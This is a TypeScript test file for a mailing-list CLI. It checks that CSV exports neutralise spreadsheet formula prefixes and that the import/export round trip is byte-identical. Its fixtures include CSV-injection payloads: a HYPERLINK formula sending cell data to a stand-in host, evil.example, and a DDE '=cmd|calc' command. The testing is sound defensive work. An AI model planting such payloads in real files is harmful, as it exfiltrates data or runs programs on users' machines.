// Exports that cannot attack the operator: no cell of `subscribers export` starts with what a
// spreadsheet runs as a formula (=, +, -, @, tab, CR: OWASP's CSV injection rule), and export →
// import → export stays byte-identical, because import undoes exactly what export did.
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { DEV_TOKEN_SECRET } from '../../src/config.ts';
import { openDatabase } from '../../src/store/db.ts';
import { neutraliseCell, restoreCell } from '../../src/store/import-cells.ts';
import { createSubscribers } from '../../src/store/subscribers.ts';
import { createSuppressions } from '../../src/store/suppressions.ts';
import { at } from '../store/db-fixture.ts';
import { runCli } from '../support/cli.ts';
import { tempDir } from '../support/paths.ts';

const cli = (cwd: string, db: string, ...args: string[]) =>
  runCli(['subscribers', ...args, '--db', db], { cwd });

const HOSTILE: [string, string][] = [
  ['formula@example.com', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
  ['plus@example.com', '+1+2'],
  ['minus@example.com', '-2+3'],
  ['at@example.com', '@SUM(A1:A9)'],
  ['quote@example.com', "'=already quoted"],
  ['apostrophe@example.com', "'Tis me"],
  ['-dash@example.com', 'Plain Name'],
  ['=eq@example.com', 'Eq'],
  ["'o@example.com", "O'Hara"],
];

function seed(file: string) {
  const db = openDatabase(file);
  const subs = createSubscribers(db);
  HOSTILE.forEach(([email, name], i) => {
    if (!subs.add(email, { name, source: i % 2 ? '=cmd|calc' : 'cli', now: at(i) }).ok) {
      throw new Error(`add ${email}`);
    }
  });
  createSuppressions(db, DEV_TOKEN_SECRET).suppress('+never@example.com', '@list', at(50));
  db.close();
}

describe('subscribers export neutralises formulas', () => {
  it('no cell starts with =, +, -, @, tab or CR; the round trip is byte-identical', async () => {
    const cwd = tempDir('verdicts-inject-');
    const [a, b, c] = ['a.db', 'b.db', 'c.db'].map((f) => path.join(cwd, f));
    seed(a!);
    const first = await cli(cwd, a!, 'export');
    expect(first.code).toBe(0);
    const cells = (parse(first.stdout) as string[][]).flat();
    expect(cells.filter((x) => /^[=+\-@\t\r]/.test(x))).toEqual([]);
    expect(first.stdout).toContain(`'=HYPERLINK(`);
    expect(first.stdout).toContain(`''=already quoted`);
    expect(first.stdout).toContain("'-dash@example.com");

    writeFileSync(path.join(cwd, 'one.csv'), first.stdout);
    expect(await cli(cwd, b!, 'import', 'one.csv')).toMatchObject({ code: 0, stderr: '' });
    const second = await cli(cwd, b!, 'export');
    expect(second.stdout).toBe(first.stdout);
    writeFileSync(path.join(cwd, 'two.csv'), second.stdout);
    expect((await cli(cwd, c!, 'import', 'two.csv')).code).toBe(0);
    expect((await cli(cwd, c!, 'export')).stdout).toBe(first.stdout);

    // The values themselves came back, not their neutralised form.
    const check = openDatabase(b!);
    const names = createSubscribers(check);
    for (const [email, name] of HOSTILE) expect(names.getByEmail(email)?.name).toBe(name);
    expect(createSuppressions(check, DEV_TOKEN_SECRET).has('+never@example.com')).toBe(true);
    check.close();
  });

  it('another tool’s file keeps a leading quote: only our own export is undone', async () => {
    const cwd = tempDir('verdicts-inject-');
    const db = path.join(cwd, 'v.db');
    writeFileSync(path.join(cwd, 'plain.csv'), "email,name\nada@example.com,'Ada\n");
    expect((await cli(cwd, db, 'import', 'plain.csv')).code).toBe(0);
    const check = openDatabase(db);
    expect(createSubscribers(check).getByEmail('ada@example.com')?.name).toBe("'Ada");
    check.close();
  });

  it('restoreCell undoes neutraliseCell for any text', () => {
    for (const s of ['', 'a', '=1', "'", "''", "'=x", '\tx', '\rx', '-', '@', 'x=y']) {
      expect(restoreCell(neutraliseCell(s))).toBe(s);
    }
  });
});
